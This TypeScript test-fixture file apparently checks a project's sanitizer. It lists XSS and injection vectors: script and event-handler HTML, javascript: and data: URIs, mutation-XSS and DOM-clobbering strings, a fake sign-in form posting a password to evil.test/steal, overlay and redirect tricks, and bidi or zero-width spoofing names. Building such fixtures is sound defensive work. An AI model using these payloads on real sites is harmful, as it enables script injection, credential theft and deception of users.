/**
 * What an attacker writes: HTML and Markdown that would run, load, cover or clobber something, and names that would lie.
 * Whatever runs calls `alert`, which is watched.
 */
export interface Vectors {
  /** Markdown for the body of a post, each with a name. */
  readonly bodies: readonly { readonly id: string; readonly markdown: string }[];
  /** Lines for titles, names, messages, branches, alternative texts and what servers say. */
  readonly names: readonly string[];
  /** Names of files, without their ending. */
  readonly files: readonly string[];
}

const html: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/beacon.png" srcset="https://evil.test/2x.png 2x">',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>press</text></a><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object>',
  '<div id="frames"><frameset onload=alert(1)><frame src="https://evil.test/set"></div>',
  'a line\u2028separator <b onclick=alert(1)>x</b>\u2029and another',
  '<embed src="javascript:alert(1)"><object data="javascript:alert(1)"></object>',
  '<form id=root action="https://evil.test/steal"><input name=token type=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.png" onerror=alert(1)></video>',
  '<style>* { background: url(https://evil.test/s) } @import "https://evil.test/s.css";</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:url(https://evil.test/o)">Sign in again</div>',
  '<p id="root" class="fixed inset-0 z-50">covered</p>',
  '<a id=getElementById name=createElement href="https://evil.test/"></a><img name=body><img name=currentScript>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/"><base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/l.css"><link rel=preload as=image href="https://evil.test/l.png">',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<dialog open onclose=alert(1)>x</dialog><div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<a href="javascript:alert(1)" ping="https://evil.test/ping">press</a>',
  '<table background="https://evil.test/t.png"><tr><td onmouseover=alert(1)>cell</td></tr></table>',
  '<div data-galley-locked="1" data-node-view-wrapper data-pm-slice="1 1 []" onclick=alert(1)>x</div>',
  '<marquee onstart=alert(1)>x</marquee><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
];

const markdown: readonly string[] = [
  '[press](javascript:alert(1)) and [this](JaVaScRiPt:alert(1)) and [that](java&#x09;script:alert(1))',
  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [this](vbscript:msgbox(1))',
  '[press](https://evil.test "x\\" onmouseover=\\"alert(1)")',
  '[press](https://github.com@evil.test/) and <javascript:alert(1)>',
  '![x](javascript:alert(1)) and ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![far](https://evil.test/markdown.png) and ![near](//evil.test/near.png)',
  '![x][evil]\n\n[evil]: https://evil.test/reference.png "t\\" onerror=\\"alert(1)"',
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '## <img src=x onerror=alert(1)> {#root}',
  '[^1]: <script>alert(1)</script>\n\nA note[^1] with `<img src=x onerror=alert(1)>`.',
  '$\\href{javascript:alert(1)}{x}$ and {{constructor.constructor("alert(1)")()}}',
  '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  'a \u202egnp.exe\u202c and \u200b\u2066zero\u2069 \u001b[31mred\u001b[0m',
];

const names: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</title></script><script>alert(1)</script>',
  'javascript:alert(1)',
  '{{7*7}} ${alert(1)} __proto__',
  '\u202egpj.exe \u2066hidden\u2069',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.test\u0007press\u001b]8;;\u0007',
  'ad\u200bm\u200bin\u2060\ufeff',
  'pay\u00adpal\u180e \u{e0041}\u{e0042}\u{e0043}',
  'a\u200db\u200cc\u034f\u115f\u3164\uffa0',
  `Z${'\u0300\u0301\u0302'.repeat(80)}`,
  'W'.repeat(10_000),
  'a\tb\u000bc\u0085d\u2028e\u2029f',
];

const files: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"onmouseover="alert(1)',
  "'-alert(1)-'",
  '\u202egpj.exe',
  'ad\u200bmin',
  '\u001b[31mred',
  '__proto__',
  'a b%20c#d?e',
  'W'.repeat(200),
];

/** Those that the project itself brings. */
export const ownVectors: Vectors = {
  bodies: [...html, ...markdown].map((text, index) => ({ id: `own-${index}`, markdown: text })),
  names,
  files,
};
